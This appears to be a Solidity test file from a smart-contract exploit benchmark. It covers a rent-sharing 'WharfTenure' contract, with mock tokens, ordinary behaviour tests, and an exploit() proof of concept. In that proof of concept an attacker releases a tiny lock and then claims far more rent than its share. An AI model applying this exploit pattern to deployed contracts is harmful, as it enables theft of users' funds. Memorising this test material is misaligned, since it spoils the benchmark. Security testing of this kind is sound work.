// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-260fd8f1-6fd2-4dab-9a58-ede9c1f17690

import "./WharfTenure.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Coin is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Holder {
    WharfTenure internal wharf;

    constructor(WharfTenure wharf_, Coin bond) {
        wharf = wharf_;
        bond.approve(address(wharf_), type(uint256).max);
    }

    function lock(uint256 quarter, uint256 amount) external {
        wharf.lock(quarter, amount);
    }

    function postpone(uint256 quarter, uint256 later, uint256 amount) external {
        wharf.postpone(quarter, later, amount);
    }

    function release(uint256 quarter, uint256 amount) external {
        wharf.release(quarter, amount);
    }

    function takeRent() external returns (uint256) {
        return wharf.takeRent();
    }
}

/// A holder like any other.
contract Attacker is Holder {
    constructor(WharfTenure wharf_, Coin bond) Holder(wharf_, bond) {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    Coin public bond;
    Coin public token;
    WharfTenure public wharf;
    Holder public ada;
    Holder public bo;
    Attacker public crook;
    uint256 public q;
    uint256 public start;

    function setUp() public {
        vm.warp(1_790_000_000);
        bond = new Coin();
        token = new Coin();
        wharf = new WharfTenure(bond, token);
        q = wharf.quarterAt(block.timestamp);
        ada = new Holder(wharf, bond);
        bo = new Holder(wharf, bond);
        crook = new Attacker(wharf, bond);
        bond.mint(address(ada), 300_000e18);
        bond.mint(address(bo), 100_000e18);
        bond.mint(address(crook), 100_000e18);
        ada.lock(q, 300_000e18);
        bo.lock(q, 100_000e18);
        crook.lock(q, 1e18);
        crook.lock(q + 3, 99_999e18);

        // The first quarter ends; rent for the next thirty days comes in.
        start = wharf.endOf(q) + 1 days;
        vm.warp(start);
        token.mint(address(this), 300_000e18);
        token.approve(address(wharf), type(uint256).max);
        wharf.payRent(300_000e18, 30 days);
    }

    function test_Regular() public {
        require(wharf.bondsLocked() == 500_000e18, "all bonds count");
        vm.warp(start + 10 days);
        uint256 got = ada.takeRent();
        require(got <= 60_000e18 && got > 59_999e18, "three fifths of ten days");
        got = crook.takeRent();
        require(got <= 20_000e18 && got > 19_999e18, "one fifth of ten days");

        // Part of a lock is released, part postponed.
        bo.release(q, 40_000e18);
        require(bond.balanceOf(address(bo)) == 40_000e18, "released");
        bo.postpone(q, q + 2, 50_000e18);
        require(wharf.held(address(bo), q) == 10_000e18 && wharf.held(address(bo), q + 2) == 50_000e18, "postponed");
        require(wharf.bondsLocked() == 460_000e18, "total after release");
        try bo.release(q + 2, 1e18) {
            revert("released early");
        } catch {}
        try bo.postpone(q + 2, q + 1, 1e18) {
            revert("shortened");
        } catch {}
        try bo.lock(q + 14, 1e18) {
            revert("too far ahead");
        } catch {}
        try bo.release(q, 10_001e18) {
            revert("released too much");
        } catch {}

        // The whole lock to a quarter nobody else uses goes to a later one.
        crook.postpone(q + 3, q + 4, 99_999e18);
        require(wharf.bondsAt(q + 3) == 0 && wharf.bondsLocked() == 460_000e18, "moved");
        vm.warp(start + 40 days);
        got = bo.takeRent();
        require(got > 46_000e18 && got < 46_200e18, "ten days on 100, twenty on 60 of 460");
        got = ada.takeRent() + crook.takeRent();
        require(got > 173_800e18 && got < 174_000e18, "the others");
        vm.warp(wharf.endOf(q + 4));
        crook.release(q + 4, 99_999e18);
        require(bond.balanceOf(address(crook)) == 99_999e18, "bonds are back");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Rent is the office's to pay; bonds are locked for quarters to come, and are some.
    function test_RefusesLocks() public {
        refuses(address(ada), WharfTenure.NotOffice.selector);
        wharf.payRent(0, 1);
        refuses(address(ada), abi.encodeWithSelector(WharfTenure.QuarterOutOfRange.selector, q));
        wharf.lock(q, 1);
        refuses(address(ada), WharfTenure.NothingMoved.selector);
        wharf.lock(q + 2, 0);
        refuses(address(ada), WharfTenure.NothingMoved.selector);
        wharf.release(q, 0);
    }

    /// Coins that say no are believed.
    function test_RefusesFailedTransfers() public {
        bond.sleep(true);
        refuses(address(ada), WharfTenure.TransferFailed.selector);
        wharf.lock(q + 2, 1);
        refuses(address(ada), WharfTenure.TransferFailed.selector);
        wharf.release(q, 1);
        token.sleep(true);
        refuses(address(ada), WharfTenure.TransferFailed.selector);
        wharf.takeRent();
        vm.expectRevert(WharfTenure.TransferFailed.selector);
        wharf.payRent(0, 1);
    }

    function exploit() public {
        crook.release(q, 1e18);
        vm.warp(start + 10 days);
        crook.takeRent();
    }

    function test_Exploit() public {
        uint256 before = token.balanceOf(address(crook));
        exploit();
        require(token.balanceOf(address(crook)) >= before + 90_000e18, "no more than its share");
    }

    function target() public view returns (address) {
        return address(wharf);
    }

    function attacker() public view returns (address) {
        return address(crook);
    }
}
